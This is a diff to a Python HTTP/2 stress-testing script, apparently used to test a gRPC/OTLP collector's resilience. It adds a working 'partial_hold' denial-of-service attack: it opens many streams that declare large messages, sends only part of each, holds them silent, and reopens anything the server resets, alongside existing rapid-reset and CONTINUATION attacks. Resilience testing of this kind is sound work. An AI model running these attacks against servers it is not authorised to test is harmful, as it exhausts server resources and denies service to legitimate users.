@@ -5,12 +5,14 @@
 # connections (--conns). Prints one JSON line when done:
 #   {"attack": ..., "frames": n, "connects": n, "closed_by_server": n, "spans": n}
 # ("spans": what complete Export calls it sent carried, for the accounting).
+# SIGTERM ends partial_hold early (it then prints its line as usual).
 import argparse
 import errno
 import json
 import resource
 import select
 import selectors
+import signal
 import socket
 import struct
 import sys
@@ -278,7 +280,113 @@ def hold(args, send_preface):
     return stats
 
 
+class Framed(Conn):
+    """A connection that reads the server's frames: ACKs its SETTINGS (its
+    stream window applies only then) and notes the streams it reset."""
+
+    def __init__(self, port):
+        super().__init__(port)
+        self.inbuf = b''
+        self.ended = []
+
+    def pump(self, read=True):
+        if self.closed:
+            return False
+        try:
+            while self.pending:
+                n = self.sock.send(self.pending)
+                self.pending = self.pending[n:]
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.closed = True
+            return False
+        try:
+            while True:
+                d = self.sock.recv(65536)
+                if not d:
+                    self.closed = True
+                    return False
+                self.inbuf += d
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.closed = True
+            return False
+        while len(self.inbuf) >= 9:
+            length = int.from_bytes(self.inbuf[:3], 'big')
+            if len(self.inbuf) < 9 + length:
+                break
+            ftype, flags = self.inbuf[3], self.inbuf[4]
+            sid = int.from_bytes(self.inbuf[5:9], 'big') & 0x7fffffff
+            self.inbuf = self.inbuf[9 + length:]
+            if ftype == SETTINGS and not flags & ACK:
+                self.pending += frame(SETTINGS, ACK, 0)
+            elif ftype == RST_STREAM:
+                # After an answer, too: a stream counts against the
+                # server's concurrency until it is reset or both ends end.
+                self.ended.append(sid)
+        return True
+
+
+def partial_hold(args):
+    # Each connection keeps --streams calls open whose message declares
+    # --declare bytes, of which --send are sent (inside the stream window),
+    # then silence. A stream the server ends is opened again at once, a
+    # connection it closes reconnected: whatever the server gives back is
+    # taken again, so held partial messages are all the server ever sees.
+    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0,
+             'streams': 0, 'ended_by_server': 0, 'bytes': 0, 'held_peak': 0}
+    prefix = b'\x00' + struct.pack('>I', args.declare)
+    payload = prefix + b'\x0a' * (args.send - len(prefix))
+    conns = []
+    stop = [False]
+    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
+
+    def open_stream(c):
+        sid = c.stream_id()
+        c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
+        for off in range(0, len(payload), 16384):
+            c.queue(frame(DATA, 0, sid, payload[off:off + 16384]))
+        c.open_streams.add(sid)
+        stats['streams'] += 1
+        stats['bytes'] += len(payload)
+        stats['frames'] += 1 + (len(payload) + 16383) // 16384
+
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline and not stop[0]:
+        while len(conns) < args.conns:
+            try:
+                c = Framed(args.port)
+            except OSError:
+                time.sleep(0.01)
+                break
+            c.open_streams = set()
+            conns.append(c)
+            stats['connects'] += 1
+        for c in list(conns):
+            while len(c.open_streams) < args.streams and c.next_id < (1 << 30):
+                open_stream(c)
+            if not c.pump():
+                stats['closed_by_server'] += 1
+                c.close()
+                conns.remove(c)
+                continue
+            for sid in c.ended:
+                if sid in c.open_streams:
+                    c.open_streams.discard(sid)
+                    stats['ended_by_server'] += 1
+            c.ended = []
+        held = sum(len(c.open_streams) for c in conns) * len(payload)
+        stats['held_peak'] = max(stats['held_peak'], held)
+        select.select([c.sock for c in conns], [c.sock for c in conns if c.pending], [], 0.05)
+    for c in conns:
+        c.close()
+    return stats
+
+
 ATTACKS = {
+    'partial_hold': partial_hold,
     'rapid_reset': rapid_reset,
     'continuation': continuation,
     'header_list': header_list,
@@ -298,6 +406,11 @@ def main():
     p.add_argument('--calls', type=int, default=16, help='zero_window: calls per connection')
     p.add_argument('--body', help='zero_window: the request message (protobuf)')
     p.add_argument('--spans-per-call', type=int, default=0)
+    p.add_argument('--streams', type=int, default=16, help='partial_hold: calls per connection')
+    p.add_argument('--declare', type=int, default=4 << 20,
+                   help='partial_hold: the message length each call declares')
+    p.add_argument('--send', type=int, default=240 << 10,
+                   help='partial_hold: the bytes of it sent, then silence')
     args = p.parse_args()
     # The hand-built header block must be what it claims: Debian's HPACK
     # decoder reads it back first.
